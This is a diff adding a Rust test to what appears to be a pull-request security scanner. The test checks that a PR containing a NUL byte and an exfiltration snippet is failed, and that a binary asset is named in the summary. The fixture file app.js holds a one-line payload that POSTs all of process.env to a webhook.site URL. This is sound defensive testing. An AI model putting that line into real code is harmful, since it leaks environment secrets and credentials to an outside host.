@@ -798,3 +798,31 @@ async fn a_pull_request_is_judged_by_the_base_configuration_not_its_own() {
         last.2
     );
 }
+
+#[tokio::test]
+async fn a_nul_byte_does_not_pass_the_pr_gate_and_binaries_are_named_in_the_summary() {
+    let (server, _fake) = fake_github().await;
+    let exfil: &[u8] = b"fetch(\"https://webhook.site/abc\", { method: \"POST\", body: JSON.stringify(process.env) });\n// \0\n";
+    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0".to_vec();
+    png.extend((0u32..900).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
+    let pr = PullRequest::new(&[], &[("app.js", exfil), ("assets/logo.png", &png)]);
+    let run = run_github(pr.repo.path(), actions_env(&pr, &server.uri()), &[]).await;
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    let reqs = requests(&server).await;
+    let last = reqs
+        .iter()
+        .rfind(|(m, p, _)| m == "PATCH" && p.contains("/check-runs/"))
+        .map(|(_, _, b)| b)
+        .expect("check run completed");
+    assert_eq!(last["conclusion"], "failure");
+    let output = last["output"].to_string();
+    assert!(output.contains("attack.exfiltration"), "{output}");
+    assert!(output.contains("attack.nul-byte"), "{output}");
+    assert!(output.contains("`assets/logo.png`"), "{output}");
+    let comment = reqs
+        .iter()
+        .find(|(m, p, _)| m == "POST" && p.ends_with("/issues/7/comments"))
+        .map(|(_, _, b)| b["body"].as_str().unwrap().to_string())
+        .expect("summary comment");
+    assert!(comment.contains("`assets/logo.png`"), "{comment}");
+}
